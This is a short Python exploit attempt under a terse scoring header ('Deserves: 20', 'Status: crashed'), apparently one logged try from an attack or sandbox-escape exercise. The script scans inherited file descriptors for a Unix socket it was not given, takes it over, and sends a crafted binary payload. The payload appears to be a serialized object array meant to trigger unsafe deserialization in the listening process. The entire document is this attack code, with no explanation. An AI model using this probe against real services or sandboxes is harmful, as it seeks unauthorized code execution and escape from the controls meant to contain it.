# Tries: send arrays of objects and pickles
# Deserves: 20
# Status: crashed
# Within: 25

# %%
import os
import socket


def line():
    for number in range(3, 64):
        try:
            found = socket.socket(fileno=os.dup(number))
            if found.family == socket.AF_UNIX:
                return found
        except OSError:
            pass


body = b"a\x03\x00\x00\x00|O8\x01\x00\x01\x00\x00\x00\x00\x08\x00\x00\x00AAAAAAAA"
line().send(len(body).to_bytes(4, "little") + body)
